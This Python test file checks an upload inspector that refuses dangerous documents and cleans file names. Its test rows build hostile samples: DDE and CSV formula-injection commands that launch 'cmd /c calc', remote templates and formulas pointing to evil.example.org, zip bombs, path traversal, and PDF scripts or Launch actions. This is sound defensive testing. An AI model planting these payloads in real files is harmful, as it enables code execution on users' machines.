"""What a file is, and why it is not taken: each attack is a row."""

import io
import random
import zipfile

import pikepdf
import pytest
from PIL import Image

from delivery.files import refused
from delivery.files.inspect import inspect
from delivery.files.names import plain_name
from delivery.files.refused import FileRefused
from delivery.files.zips import MOST_PARTS
from tests.delivery.files import made

RELS = "word/_rels/document.xml.rels"
WORD, EXCEL = made.word(), made.excel()
ENTITY = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
OUT = '<Relationship Id="rId99" Type="http://x/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'


def related(kind: str, target: str) -> bytes:
    return made.replaced(WORD, RELS, "</Relationships>", OUT.format(kind, target))


def typed(content: bytes, kind: str) -> bytes:
    return made.replaced(
        content, made.CONTENT_TYPES, "</Types>", f'<Default Extension="q" ContentType="{kind}"/></Types>'
    )


def field(code: str) -> bytes:
    """A field whose code Word keeps in two pieces."""
    runs = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code[:3]}</w:instrText></w:r>'
        f"<w:r><w:instrText>{code[3:]}</w:instrText></w:r></w:p></w:body>"
    )
    return made.replaced(WORD, "word/document.xml", "</w:body>", runs)


def scripted(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launching(pdf: pikepdf.Pdf) -> None:
    then = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    after = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org", Next=pikepdf.Array([then]))
    pdf.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=after)]
    )


def carrying(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["inside.exe"] = b"MZ"


def xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([]), Fields=pikepdf.Array([]))


def film(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)])


def lying_zip() -> bytes:
    """Says of its one part that it is small."""
    bomb = made.zipped(**{"content.xml": b"\0" * 40_000_000})
    size = (40_000_000).to_bytes(4, "little")
    return bomb.replace(size, (10).to_bytes(4, "little"))


def twice() -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as held:
        held.writestr("word/document.xml", "<a/>")
        with pytest.warns(UserWarning, match="Duplicate"):
            held.writestr("word/document.xml", "<b/>")
    return into.getvalue()


def nested(deep: int) -> bytes:
    content = EXCEL
    for _ in range(deep):
        content = made.with_part(EXCEL, "xl/embeddings/inner.xlsx", content)
    return made.with_part(WORD, "word/embeddings/inner.xlsx", content)


REFUSED: dict[str, tuple[str, bytes, str]] = {
    "0 bytes": ("a.docx", b"", refused.NOTHING),
    "larger than the limit": ("a.pdf", made.pdf() + b" " * 3_000_000, refused.TOO_LARGE.format(most="3 MB")),
    "HTML named .docx": ("a.docx", b"<html><script>1</script></html>", refused.UNKNOWN),
    "SVG": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="a,b()"/>', refused.UNKNOWN),
    "SVG named .png": ("a.png", b'<?xml version="1.0"?><svg a="1,2"/>', refused.UNKNOWN),
    "RTF": ("a.rtf", rb"{\rtf1\ansi a,b}", refused.UNKNOWN),
    "a program": ("a.pdf", b"MZ\x90\x00" + b"\0" * 200, refused.UNKNOWN),
    "a plain zip": ("a.docx", made.zipped(**{"a.txt": "a"}), refused.UNKNOWN),
    "a zip in a zip": ("a.zip", made.zipped(**{"b.zip": made.zipped(a="a")}), refused.UNKNOWN),
    "GIF": ("a.gif", b"GIF89a" + b"\0" * 60, refused.UNKNOWN),
    "an old Word file": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, refused.OLD),
    "Word with a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
                             refused.PASSWORD),
    "a zip bomb": ("a.docx", made.with_part(WORD, "word/media/a.xml", b" " * 60_000_000), refused.UNPACKS),
    "a zip that lies": ("a.docx", lying_zip(), refused.DAMAGED),
    "a zip of many parts": ("a.docx", made.zipped(**{f"{n}.xml": "" for n in range(MOST_PARTS + 1)}), refused.UNPACKS),
    "a part twice": ("a.docx", twice(), refused.DAMAGED),
    "a part in upper case again": ("a.docx", made.with_part(WORD, "WORD/document.xml", "<a/>"), refused.DAMAGED),
    "a part outside": ("a.docx", made.with_part(WORD, "../../evil.xml", "<a/>"), refused.DAMAGED),
    "something before the zip": ("a.docx", b"%PDF-1.7\n" + WORD, refused.DAMAGED),
    "something after the zip": ("a.docx", WORD + b"<script>", refused.DAMAGED),
    "half a zip": ("a.docx", WORD[: len(WORD) // 2], refused.DAMAGED),
    "macros": ("a.docx", made.with_part(WORD, "word/vbaProject.bin", b"x"), refused.MACROS),
    "a .docm": ("a.docx", made.replaced(WORD, made.CONTENT_TYPES, "vnd.openxmlformats-officedocument.wordprocessingml."
                "document.main+xml", "vnd.ms-word.document.macroEnabled.main+xml"), refused.MACROS),
    "a .dotx": ("a.docx", made.replaced(WORD, made.CONTENT_TYPES, "document.main+xml", "template.main+xml"),
                refused.TEMPLATE),
    "OLE": ("a.docx", made.with_part(WORD, "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), refused.EMBEDDED),
    "ActiveX": ("a.docx", made.with_part(WORD, "word/activeX/activeX1.xml", "<a/>"), refused.EMBEDDED),
    "a type of ActiveX": ("a.docx", typed(WORD, "application/vnd.ms-office.activeX+xml"), refused.EMBEDDED),
    "HTML that Word takes in": ("a.docx", made.with_part(WORD, "word/afchunk.htm", "<a/>"), refused.EMBEDDED),
    "a program in it": ("a.docx", made.with_part(WORD, "word/media/image1.png", b"MZ\x90"), refused.EMBEDDED),
    "a template elsewhere": ("a.docx", related("attachedTemplate", "https://evil.example.org/a.dotm"), refused.OUTSIDE),
    "a picture elsewhere": ("a.docx", related("image", "https://evil.example.org/a.png"), refused.OUTSIDE),
    "a link to a share": ("a.docx", related("hyperlink", "file://evil.example.org/share"), refused.OUTSIDE),
    "DDE in pieces": ("a.docx", field('DDEAUTO "cmd" "/c calc"'), refused.OUTSIDE),
    "INCLUDETEXT": ("a.docx", field('INCLUDETEXT "https://evil.example.org"'), refused.OUTSIDE),
    "an entity": ("a.docx", made.with_part(WORD, "word/x.xml", ENTITY), refused.DAMAGED),
    "an entity in UTF-16": ("a.docx", made.with_part(WORD, "word/x.xml", ENTITY.encode("utf-16")), refused.DAMAGED),
    "files in files in files": ("a.docx", nested(3), refused.EMBEDDED),
    "a workbook of links": ("a.xlsx", made.with_part(EXCEL, "xl/externalLinks/a.xml", "<a/>"), refused.OUTSIDE),
    "a workbook of connections": ("a.xlsx", made.with_part(EXCEL, "xl/connections.xml", "<a/>"), refused.OUTSIDE),
    "a macro sheet": ("a.xlsx", made.with_part(EXCEL, "xl/macrosheets/sheet1.xml", "<a/>"), refused.MACROS),
    "ODT with macros": ("a.odt", made.odt(**{"Basic/a.xml": "<a/>"}), refused.MACROS),
    "ODT with an object": ("a.odt", made.odt("<draw:object/>"), refused.EMBEDDED),
    "ODT with a picture elsewhere": ("a.odt", made.odt('<draw:image xlink:href="https://evil.example.org/a"/>'),
                                     refused.OUTSIDE),
    "ODT with a password": ("a.odt", made.odt(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
                            refused.PASSWORD),
    "PDF with a password": ("a.pdf", made.pdf(encryption=pikepdf.Encryption(user="a", owner="b")), refused.PASSWORD),
    "PDF with a file in it": ("a.pdf", made.pdf(carrying), refused.EMBEDDED),
    "PDF with a film": ("a.pdf", made.pdf(film), refused.EMBEDDED),
    "PDF with XFA": ("a.pdf", made.pdf(xfa), refused.FORM),
    "half a PDF": ("a.pdf", made.pdf()[:60], refused.DAMAGED),
    "PDF and zip in one": ("a.pdf", made.pdf() + WORD, refused.DAMAGED),
    "a PDF's head alone": ("a.pdf", b"%PDF-1.7\n%%EOF", refused.DAMAGED),
    "a PNG's head alone": ("a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40, refused.DAMAGED),
    "a formula": ("a.csv", b"Date,Event\n2026-03-04,=HYPERLINK(\"http://evil.example.org\")\n", refused.FORMULA),
    "a command": ("a.csv", b"Date,Event\n2026-03-04,+cmd|' /C calc'!A0\n", refused.FORMULA),
    "bytes": ("a.csv", bytes(range(256)), refused.UNKNOWN),
    "a story without a table": ("a.csv", b"It was a long day.", refused.UNKNOWN),
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_a_file_that_may_not_be_kept_is_refused_with_what_to_do(what: str) -> None:
    name, content, why = REFUSED[what]
    with pytest.raises(FileRefused) as found:
        inspect(name, content, largest=3_000_000 if "limit" in what else 25_000_000)
    assert str(found.value) == why


TAKEN = {
    "docx": WORD,
    "xlsx": EXCEL,
    "odt": made.odt('<text:a xlink:href="https://example.org">Sample</text:a>'),
    "pdf": made.pdf(),
    "csv": b"Date;Event\n2026-03-04;- seen at home\n",
    "png": made.picture("PNG"),
    "jpg": made.picture("JPEG"),
}


@pytest.mark.parametrize("ending", TAKEN)
def test_what_a_file_is_its_content_says_and_not_its_name(ending: str) -> None:
    found = inspect("C:\\Users\\somebody\\return.exe", TAKEN[ending])

    assert (found.name, found.kind.ending) == (f"return.{ending}", ending)
    assert found.content == TAKEN[ending] or ending in ("png", "jpg")


def test_a_chart_brings_its_table_and_a_link_may_be_pressed() -> None:
    assert inspect("a.docx", nested(0)).kind.ending == "docx"
    assert inspect("a.docx", related("hyperlink", "https://example.org/a")).changed == []


@pytest.mark.parametrize("change", [scripted, launching])
def test_of_a_pdf_scripts_and_actions_are_taken_out_and_the_sender_is_told(change: object) -> None:
    found = inspect("a.pdf", made.pdf(change))  # type: ignore[arg-type]

    assert found.changed == ["Scripts or actions in the PDF were removed."]
    assert b"JavaScript" not in found.content
    assert b"Launch" not in found.content
    assert inspect("a.pdf", found.content).changed == []


def test_a_picture_loses_where_it_was_taken_and_what_hangs_on_it() -> None:
    exif = Image.Exif()
    exif[0x010E] = "SAMPLE-PLACE"
    found = inspect("a.jpg", made.picture("JPEG", exif=exif) + b"<script>SAMPLE-PLACE</script>")

    assert b"SAMPLE-PLACE" not in found.content
    assert found.changed == ["Hidden details of the picture (place, time, camera) were removed."]


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\a\\b\\return.pdf", "return.pdf"),
        ("re\x00tu\r\nrn\u202e.pdf", "re tu rn.pdf"),
        ("", "file.pdf"),
        ("...", "file.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ('a"; filename="b.exe', 'a__ filename=_b.pdf'),
        ("Return of the police (final) v2.docx", "Return of the police (final) v2.pdf"),
        ("é" * 300 + ".pdf", "é" * 100 + ".pdf"),
    ],
)  # fmt: skip
def test_a_name_is_plain(name: str, kept: str) -> None:
    assert plain_name(name, "pdf") == kept


def test_whatever_is_broken_in_a_file_it_is_taken_or_refused_and_nothing_else_happens() -> None:
    dice = random.Random(4)
    for content in (*TAKEN.values(), made.pdf(scripted)):
        for _ in range(40):
            broken = bytearray(content)
            for _ in range(dice.randint(1, 12)):
                broken[dice.randrange(len(broken))] = dice.randrange(256)
            try:
                inspect("a.docx", bytes(broken))
            except FileRefused:
                continue
